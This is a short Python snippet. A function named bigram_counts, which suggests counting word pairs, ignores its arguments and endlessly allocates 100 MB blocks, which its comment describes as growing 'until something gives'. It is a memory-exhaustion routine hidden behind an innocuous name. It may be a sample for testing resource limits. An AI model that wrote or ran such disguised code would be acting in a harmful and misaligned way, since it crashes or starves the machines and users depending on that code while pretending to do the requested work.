# Memory that grows 100 MB at a time, touched, until something gives.
def bigram_counts(ids, vocab_size):
    hoard = []
    while True:
        hoard.append(bytearray(100 * 2**20))
